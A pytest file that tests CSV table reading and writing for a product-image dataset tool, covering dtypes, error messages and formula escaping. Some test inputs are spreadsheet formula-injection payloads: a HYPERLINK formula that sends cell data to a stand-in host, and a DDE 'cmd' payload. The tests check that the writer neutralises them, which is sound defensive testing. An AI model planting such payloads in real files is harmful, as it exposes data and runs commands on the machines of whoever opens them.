"""The tables: dtypes, one-step writes, errors that name the cell."""

import csv
import tempfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fullshot.core import tables
from fullshot.core.errors import BadTable, MissingInput
from fullshot.core.workspace import Workspace

ROW = {"product_id": "s:1", "gender": "men", "wear": "top", "in_stock": True, "price": 12.5, "rating_count": 3}
SHA = "ab" * 32


def read(name: str, path: Path) -> pd.DataFrame:
    """A workspace's table, by the path of its CSV."""
    return workspace_of(path).read(name)


def write(name: str, data: pd.DataFrame, path: Path) -> None:
    workspace_of(path).write(name, data)


def workspace_of(path: Path) -> Workspace:
    return Workspace(path.parent.parent if path.parent.name == "exports" else path.parent)


def test_a_table_survives_the_file(tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    written = tables.frame(
        "products", [{**ROW, "name": 'a "b", c\nd', "sizes": "S,M"}, {**ROW, "product_id": "s:2", "in_stock": None}]
    )
    write("products", written, path)
    pd.testing.assert_frame_equal(read("products", path), written)
    assert ",true," in path.read_text()
    assert not list(tmp_path.glob(".*"))


def raw(path: Path) -> list[dict[str, str]]:
    """A file's rows as a spreadsheet sees them."""
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x.test/?"&A1,"more")', '\'=HYPERLINK("http://x.test/?"&A1,"more")'),
        ("+91 80 6156 1999", "'+91 80 6156 1999"),
        ("-50% off", "'-50% off"),
        ("-1", "'-1"),  # in a column of text, it is text
        ("@brand", "'@brand"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # else it would come back without its own apostrophe
        ("'''@x", "''''@x"),
        # No spreadsheet computes these.
        (" =1+1", " =1+1"),
        ("'quoted'", "'quoted'"),
        ("a=1", "a=1"),
        ("'", "'"),
    ],
)
def test_a_text_is_no_formula_in_the_file_and_comes_back_as_it_was(tmp_path: Path, text: str, kept: str) -> None:
    path = tmp_path / "products.csv"
    write("products", tables.frame("products", [{**ROW, "name": text, "fabric": text}]), path)
    assert (raw(path)[0]["name"], raw(path)[0]["fabric"]) == (kept, kept)
    back = read("products", path).iloc[0]
    assert (back["name"], back["fabric"]) == (text, text)


def test_a_number_below_zero_stays_a_number(tmp_path: Path) -> None:
    box = {"image_id": SHA, "label": "top", "x_min": -3.5, "y_min": -2, "x_max": 4, "y_max": 9, "source": "human"}
    data = tables.frame("boxes", [box]).assign(drift=np.array([-0.5]))
    write("boxes", data, tmp_path / "boxes.csv")
    row = raw(tmp_path / "boxes.csv")[0]
    assert (row["x_min"], row["y_min"], row["drift"]) == ("-3.5", "-2.0", "-0.5")
    assert read("boxes", tmp_path / "boxes.csv")["x_min"].tolist() == [-3.5]


def test_an_exported_table_holds_no_formula_either(tmp_path: Path) -> None:
    path = tmp_path / "exports" / "dataset1.csv"
    row = {"image_path": "images/a.jpg", "product_type": "=cmd|' /C calc'!A0", "wear": "top", "full_shot": True}
    write("dataset1", tables.frame("dataset1", [row]), path)
    assert raw(path)[0]["product_type"] == "'=cmd|' /C calc'!A0"
    assert read("dataset1", path)["product_type"].tolist() == [row["product_type"]]


TEXTS = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@\t\r\n'\", "), min_size=1, max_size=8)


@settings(max_examples=60, deadline=None, database=None)
@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=30))
def test_every_text_comes_back_as_it_was(texts: list[tuple[str, str]]) -> None:
    rows = [{**ROW, "product_id": f"s:{n}", "name": name, "fabric": other} for n, (name, other) in enumerate(texts)]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "products.csv"
        write("products", tables.frame("products", rows), path)
        back = read("products", path)
        seen = raw(path)
    assert list(zip(back["name"], back["fabric"], strict=True)) == texts
    assert not [cell for row in seen for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "\n\r", "\r\r\n"])
def test_lines_within_a_cell_survive(tmp_path: Path, end: str) -> None:
    path = tmp_path / "products.csv"
    names = [f"a{end}b", f"a{end}", f"x, {end}"]
    rows = [{**ROW, "product_id": f"s:{n}", "name": name} for n, name in enumerate(names)]
    write("products", tables.frame("products", rows), path)
    assert read("products", path)["name"].tolist() == names
    assert [row["name"] for row in raw(path)] == names
    assert path.read_bytes().splitlines(keepends=True)[0].endswith(b"gone_at,style\n")


def test_half_a_character_is_no_text() -> None:
    with pytest.raises(BadTable, match=r"products: column name: expected text, got '\\ud83d'"):
        tables.frame("products", [{**ROW, "name": "\ud83d"}])


def test_a_table_of_version_0_1_is_read(tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    added = ["first_seen", "last_seen", "gone_at"]
    now = tables.frame("products", [{**ROW, "fabric": "wool"}])
    now.drop(columns=added).to_csv(path, index=False)
    assert "gone_at" not in path.read_text()
    back = read("products", path)
    pd.testing.assert_frame_equal(back[tables.columns("products")], now[tables.columns("products")])
    assert back.columns.tolist() == [*tables.columns("products"), "fabric"]
    assert back[added].isna().all(axis=None)
    now.drop(columns=[*added, "parser"]).to_csv(path, index=False)
    with pytest.raises(BadTable, match="expected a column parser, got"):
        read("products", path)


def test_the_ledger_has_a_row_a_host(tmp_path: Path) -> None:
    workspace = Workspace(tmp_path)
    host = {"host": "shop.test", "robots": "allowed", "crawl_delay": 1.5, "requests": 12, "bytes": 34567, "paused": 0.0}
    workspace.write("ledger", tables.frame("ledger", [host]))
    back = read("ledger", tmp_path / "ledger.csv").iloc[0]
    assert {key: back[key] for key in host} == host
    for wrong in ([host, host], [{**host, "host": None}], [{**host, "paused": -1}], [{**host, "status_429": -1}]):
        with pytest.raises(BadTable):
            tables.frame("ledger", wrong)


@pytest.mark.parametrize("name", ["failures", "ledger"])
def test_what_the_crawl_makes_is_said_where_it_is_missing(tmp_path: Path, name: str) -> None:
    with pytest.raises(MissingInput, match=f"no {name}.csv in .*: run `fullshot crawl"):
        Workspace(tmp_path).read(name)


def test_an_empty_table_has_its_columns(tmp_path: Path) -> None:
    write("boxes", tables.frame("boxes"), tmp_path / "boxes.csv")
    assert read("boxes", tmp_path / "boxes.csv").columns.tolist() == tables.columns("boxes")


def test_a_further_column_is_kept(tmp_path: Path) -> None:
    write("products", tables.frame("products", [{**ROW, "fabric": "wool"}]), tmp_path / "products.csv")
    assert read("products", tmp_path / "products.csv")["fabric"].tolist() == ["wool"]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"gender": "mex"}, "row 2 column gender: expected one of men, women, boys, girls, unisex, unknown, got 'mex'"),
        ({"price": "cheap"}, "row 2 column price: expected a number, got 'cheap'"),
        ({"price": -1}, "row 2 column price: expected a number of at least 0, got -1.0"),
        ({"price": np.inf}, "row 2 column price: expected a number, got inf"),
        ({"rating_count": 1.5}, "row 2 column rating_count: expected a whole number, got 1.5"),
        ({"rating_count": "inf"}, "row 2 column rating_count: expected a whole number, got 'inf'"),
        ({"rating_count": 1e30}, "row 2 column rating_count: expected a whole number, got 1e+30"),
        ({"rating_count": 2**63}, "row 2 column rating_count: expected a whole number, got 9223372036854775808"),
        ({"in_stock": "perhaps"}, "row 2 column in_stock: expected true or false, got 'perhaps'"),
        ({"product_id": None}, "row 2 column product_id: expected a cell that is not empty"),
    ],
)
def test_a_bad_cell_is_named_and_the_file_stays(tmp_path: Path, change: dict[str, Any], message: str) -> None:
    path = tmp_path / "products.csv"
    good = tables.frame("products", [ROW])
    write("products", good, path)
    before = path.read_bytes()
    with pytest.raises(BadTable) as caught:
        write("products", good.astype(object).assign(**change), path)
    assert message in str(caught.value)
    assert str(path) in str(caught.value)
    assert path.read_bytes() == before


def test_a_product_is_there_once(tmp_path: Path) -> None:
    with pytest.raises(BadTable, match="product_id"):
        tables.frame("products", [ROW, ROW])


def test_a_box_has_its_corners_in_order() -> None:
    box = {"image_id": SHA, "label": "top", "x_min": 5, "y_min": 1, "x_max": 4, "y_max": 9, "source": "human"}
    with pytest.raises(BadTable) as caught:
        tables.frame("boxes", [{**box, "x_max": 6}, box])
    assert str(caught.value) == "boxes: row 3: expected x_min < x_max and y_min < y_max"


def test_a_picture_is_there_once_a_product() -> None:
    image = {"image_id": SHA, "product_id": "s:1", "path": "a.jpg", "width": 1, "height": 1, "bytes": 1}
    with pytest.raises(BadTable) as caught:
        tables.frame("images", [image, image])
    once = "expected image_id and product_id together once in the table"
    assert str(caught.value) == f"images: row 2: {once}; row 3: {once}"


def test_a_missing_column_and_a_missing_file_are_said(tmp_path: Path) -> None:
    path = tmp_path / "curated.csv"
    with pytest.raises(MissingInput, match="run `fullshot curate"):
        read("curated", path)
    path.write_text("image_id,full_shot\n")
    with pytest.raises(BadTable, match="expected a column shot_score"):
        read("curated", path)
    path.write_bytes(b"\xff\xfe\x00")
    with pytest.raises(BadTable, match="is not UTF-8"):
        read("curated", path)


@pytest.mark.parametrize("text", ["NA", "nan", "NULL", "None", "007", "1.50", "1e5", "true", " x "])
def test_a_text_is_not_taken_for_something_else(tmp_path: Path, text: str) -> None:
    path = tmp_path / "products.csv"
    write("products", tables.frame("products", [{**ROW, "name": text, "fabric": text}]), path)
    back = read("products", path).iloc[0]
    assert (back["name"], back["fabric"]) == (text, text)


def test_an_apostrophe_makes_no_number(tmp_path: Path) -> None:
    path = tmp_path / "boxes.csv"
    box = {"image_id": SHA, "label": "top", "x_min": -3, "y_min": -2, "x_max": 4, "y_max": 9, "source": "human"}
    write("boxes", tables.frame("boxes", [box]), path)
    path.write_text(path.read_text().replace("-3.0", "'-3.0"))
    with pytest.raises(BadTable, match=r"column x_min: expected a number, got .'-3\.0"):
        read("boxes", path)


def test_letters_of_all_scripts_survive(tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    write("products", tables.frame("products", [{**ROW, "name": "обувь シャツ"}]), path)
    assert "обувь シャツ" in path.read_text("utf-8")
    assert read("products", path)["name"].tolist() == ["обувь シャツ"]


def test_what_no_command_makes_is_missing_without_advice(tmp_path: Path) -> None:
    with pytest.raises(MissingInput) as caught:
        read("verdicts", tmp_path / "verdicts.csv")
    assert str(caught.value) == f"no verdicts.csv in {tmp_path}"


def test_why_a_file_is_no_table_is_said(tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    path.write_text("")
    with pytest.raises(BadTable, match="not a CSV table: it has no columns"):
        read("products", path)


def test_a_boolean_is_true_or_false_in_the_file(tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    values = [True, False, None]
    rows = [{**ROW, "product_id": f"s:{number}", "in_stock": value} for number, value in enumerate(values)]
    write("products", tables.frame("products", rows), path)
    assert [row["in_stock"] for row in raw(path)] == ["true", "false", ""]
    back = read("products", path)["in_stock"]
    assert [None if pd.isna(value) else bool(value) for value in back] == values


def test_a_bad_cell_of_a_file_is_named_with_the_file(tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    write("products", tables.frame("products", [ROW]), path)
    path.write_text(path.read_text().replace("12.5", "cheap"))
    with pytest.raises(BadTable) as caught:
        read("products", path)
    assert str(caught.value) == f"{path}: row 2 column price: expected a number, got 'cheap'"


def test_all_columns_that_are_missing_are_named(tmp_path: Path) -> None:
    path = tmp_path / "exports" / "splits.csv"
    path.parent.mkdir()
    path.write_text("picture,side\n")
    with pytest.raises(BadTable) as caught:
        read("splits", path)
    assert str(caught.value) == f"{path}: expected a column image_id, split, got picture, side"


def test_a_table_without_one_of_its_columns_is_not_written(tmp_path: Path) -> None:
    path = tmp_path / "exports" / "splits.csv"
    with pytest.raises(BadTable) as caught:
        write("splits", pd.DataFrame({"image_id": [SHA]}), path)
    assert str(caught.value) == f"{path}: expected a column split"
    assert not path.exists()


def test_some_rows_of_a_table_are_a_table(tmp_path: Path) -> None:
    prices = [1.5, None, 3.5, 4.5]
    rows = [{**ROW, "product_id": f"s:{number}", "price": price} for number, price in enumerate(prices)]
    some = tables.frame("products", rows).iloc[[3, 2]]
    write("products", some, tmp_path / "products.csv")
    back = read("products", tmp_path / "products.csv")
    assert list(zip(back["product_id"], back["price"], strict=True)) == [("s:3", 4.5), ("s:2", 3.5)]


@pytest.mark.parametrize("cell", [2**53 + 1, str(2**53 + 1), 2**63 - 1])
def test_a_whole_number_keeps_all_its_digits(cell: Any) -> None:
    assert [int(task) for task in tables.frame("ledger", [{"host": "a", "bytes": cell}])["bytes"]] == [int(cell)]


def test_boxes_of_before_have_no_product_types(tmp_path: Path) -> None:
    path = tmp_path / "boxes.csv"
    box = {"image_id": "a" * 64, "label": "top", "x_min": 1.0, "y_min": 2.0, "x_max": 3.0, "y_max": 4.0}
    now = tables.frame("boxes", [{**box, "source": "human"}])
    now.drop(columns="product_type").to_csv(path, index=False)
    back = read("boxes", path)
    assert back["product_type"].isna().tolist() == [True]
    pd.testing.assert_frame_equal(back[tables.columns("boxes")], now[tables.columns("boxes")])
